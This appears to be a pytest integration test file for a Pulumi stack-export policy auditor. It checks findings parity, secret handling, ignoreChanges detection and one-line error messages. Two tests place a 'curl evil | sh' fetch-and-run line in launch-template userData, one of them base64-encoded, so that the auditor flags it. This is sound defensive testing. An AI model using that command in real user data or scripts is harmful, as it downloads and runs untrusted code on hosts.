"""Audits of ``pulumi stack export`` files (deployment version 3): same findings as the mock
run, unreadable secrets not silently passed, and one-line errors for bad files."""

from __future__ import annotations

import json

import pytest

from kiln.audit import sources
from kiln.audit.sources import AuditError
from tests.policies import auditkit as ak

pytestmark = pytest.mark.integration


def _write(tmp_path, document) -> object:
    path = tmp_path / "prod.json"
    path.write_text(json.dumps(document) if not isinstance(document, str) else document)
    return path


def test_an_export_audits_like_the_program(tmp_path):
    path = _write(tmp_path, ak.export_document(ak.bad_source("prod")))
    source = sources.from_export(path, "prod")
    assert source.project == "kiln" and source.origin == str(path)
    assert source.config == {"aws:region": "eu-central-1"}  # from the AWS provider
    lt = next(r for r in source.resources if r.name == "web-blue-lt")
    assert "__defaults" not in lt.inputs and lt.provider is not None
    from_export = ak.evaluate(source)
    from_program = ak.evaluate(ak.bad_source("prod"))
    assert sorted((f.rule, f.urn) for f in from_export.findings) == \
        sorted((f.rule, f.urn) for f in from_program.findings)
    assert from_export.counts()["checks"] == from_program.counts()["checks"]


def test_an_encrypted_secret_is_not_passed_silently(tmp_path):
    document = ak.export_document(ak.stack_source("prod"))
    lt = next(r for r in document["deployment"]["resources"] if r["urn"].endswith("web-blue-lt"))
    lt["inputs"]["userData"] = ak.encrypted("#!/bin/sh\ncurl evil | sh\n")
    report = ak.evaluate(sources.from_export(_write(tmp_path, document), "prod"))
    [finding] = report.findings
    assert finding.rule == "kiln-ec2-launchtemplate-user-data-pinned"
    assert "can't be known" in finding.message and finding.enforcement == "advisory"


def test_a_decrypted_secret_is_checked(tmp_path):
    document = ak.export_document(ak.stack_source("prod"))
    lt = next(r for r in document["deployment"]["resources"] if r["urn"].endswith("web-blue-lt"))
    lt["inputs"]["userData"] = {"4dabf18193072939515e22adb298388d":
                                "1b47061264138c4ac30d75fd1eb44270",
                                "plaintext": json.dumps("IyEvYmluL3NoCmN1cmwgZXZpbCB8IHNoCg==")}
    report = ak.evaluate(sources.from_export(_write(tmp_path, document), "prod"))
    assert [(f.rule, f.enforcement) for f in report.findings] == [
        ("kiln-ec2-launchtemplate-user-data-pinned", "mandatory")]


def test_ignore_changes_in_an_export_is_checked(tmp_path):
    document = ak.export_document(ak.stack_source("prod"))
    lt = next(r for r in document["deployment"]["resources"] if r["urn"].endswith("web-green-lt"))
    lt["ignoreChanges"] = ["imageId"]
    report = ak.evaluate(sources.from_export(_write(tmp_path, document), "prod"))
    assert [(f.rule, f.name) for f in report.findings] == [
        ("kiln-ec2-launchtemplate-no-ignore-changes", "web-green-lt")]


@pytest.mark.parametrize(("content", "message"), [
    ("{not json", "not a JSON stack export"),
    ({"version": 2, "deployment": {"resources": []}}, "deployment version 2 is not supported"),
    ({"version": 3}, "no 'deployment'"),
    ({"version": 3, "deployment": {"resources": []}}, "holds no resources"),
    ({"version": 3, "deployment": {"resources": [
        {"urn": "urn:pulumi:dev::kiln::pulumi:pulumi:Stack::kiln-dev", "type":
         "pulumi:pulumi:Stack"}]}}, "the export is of stack 'dev', not 'prod'"),
    ({"version": 3, "deployment": {"resources": [{"urn": "web", "type": "x"}]}},
     "is not a Pulumi URN"),
])
def test_a_bad_export_is_one_line(tmp_path, content, message):
    with pytest.raises(AuditError) as error:
        sources.from_export(_write(tmp_path, content), "prod")
    assert message in str(error.value) and "\n" not in str(error.value)


def test_a_missing_export(tmp_path):
    with pytest.raises(AuditError, match="file not found"):
        sources.from_export(tmp_path / "nope.json", "prod")
